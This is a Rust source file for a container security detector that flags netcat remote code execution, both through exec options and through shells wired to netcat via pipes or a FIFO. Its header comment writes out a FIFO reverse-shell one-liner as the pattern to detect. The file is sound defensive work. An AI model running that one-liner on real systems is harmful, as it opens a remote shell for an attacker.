//! `Execution: Netcat Remote Code Execution In Container`: a netcat that runs a program for its
//! peer (`-e`, `-c`, `--exec`, `--sh-exec`, `--lua-exec`, parsed with each flavor's own option
//! grammar), or a netcat whose output feeds a shell through pipes or a FIFO
//! (`mkfifo f; cat f | sh -i 2>&1 | nc host port > f`). Such a wired shell is also a reverse
//! shell and runs remote commands, so those detections are raised for it here too: the pipe
//! loop is only complete once its last member exec'd, which may be after the shell.

use super::{
    netcat,
    network::RelayKind,
    rules::DetectionId,
    tools::{identify, ToolKind},
    Ctx, Detection, Detector,
};
use crate::{
    event::{EventBody, ProcessKey},
    process::Process,
};

/// The detector.
pub struct NetcatRce;

fn is_shell(ctx: &Ctx<'_>, p: &Process) -> bool {
    matches!(identify(&p.exe, &p.argv, ctx.lists).kind, ToolKind::Shell | ToolKind::Interpreter)
}

fn wired(ctx: &Ctx<'_>, nc: ProcessKey, shell: &Process, out: &mut Vec<Detection>) {
    let nc_peer = ctx.table.get(nc).and_then(|p| ctx.command_line_peer(p));
    if ctx.in_scope(DetectionId::NetcatRemoteCodeExecution) {
        let mut d = ctx.detection(
            DetectionId::NetcatRemoteCodeExecution,
            nc,
            format!("netcat (pid {}) feeds a shell (pid {}) through pipes", nc.pid, shell.key.pid),
        );
        d.process = nc;
        d.peer = nc_peer.clone();
        d.properties.push(("Netcat_Wired_Shell_Pid", shell.key.pid.into()));
        out.push(d);
    }
    for id in [DetectionId::ReverseShell, DetectionId::RemoteCommandExecution] {
        if ctx.in_scope(id) {
            let mut d = ctx.detection(id, shell.key, format!("shell (pid {}) fed by netcat (pid {}) through pipes", shell.key.pid, nc.pid));
            d.process = shell.key;
            d.peer = nc_peer.clone();
            d.properties.push(("Network_Relay_Pid", nc.pid.into()));
            out.push(d);
        }
    }
}

impl Detector for NetcatRce {
    fn on_event(&mut self, ctx: &Ctx<'_>, out: &mut Vec<Detection>) {
        if !matches!(ctx.event.body, EventBody::Exec(_)) || ctx.container.is_none() {
            return;
        }
        let p = ctx.process;
        if let Some(ToolKind::Netcat(flavor)) = ctx.tool {
            let args = &p.argv[ctx.args_from.min(p.argv.len())..];
            let cmd = netcat::parse(flavor, args);
            if let Some(x) = &cmd.exec {
                if ctx.in_scope(DetectionId::NetcatRemoteCodeExecution) {
                    let mut d = ctx.detection(
                        DetectionId::NetcatRemoteCodeExecution,
                        p.key,
                        format!("netcat runs {:?} for its peer ({} {})", x.program, x.option, x.program),
                    );
                    d.properties.push(("Netcat_Flavor", serde_json::to_value(flavor).unwrap_or_default()));
                    d.properties.push(("Netcat_Exec_Option", x.option.clone().into()));
                    d.properties.push(("Netcat_Exec_Program", x.program.clone().into()));
                    if let Some(h) = &cmd.host {
                        d.properties.push(("Netcat_Peer", format!("{h}:{}", cmd.port.clone().unwrap_or_default()).into()));
                    }
                    d.properties.push(("Netcat_Listen", cmd.listen.into()));
                    d.peer = cmd.peer();
                    out.push(d);
                }
                return;
            }
        }
        // Pipe wiring: the exec that completes a netcat/shell loop may be any member of it.
        if !p.stdio.iter().any(|s| s.pipe_ino().is_some()) {
            return;
        }
        let mut near = ctx.net.upstream(ctx.table, p);
        near.extend(ctx.net.downstream(ctx.table, p));
        near.push(p.key);
        let mut netcats: Vec<ProcessKey> = near.iter().copied().filter(|k| ctx.net.relay(k) == Some(RelayKind::Netcat)).collect();
        netcats.dedup();
        for nc_key in netcats {
            let Some(nc) = ctx.table.get(nc_key) else { continue };
            let mut shells = ctx.net.upstream(ctx.table, nc);
            shells.extend(ctx.net.downstream(ctx.table, nc));
            for sh in shells {
                let Some(shell) = ctx.table.get(sh).filter(|s| is_shell(ctx, s)) else { continue };
                if ctx.net.drives(ctx.table, nc, shell) {
                    wired(ctx, nc_key, shell, out);
                }
            }
        }
    }
}
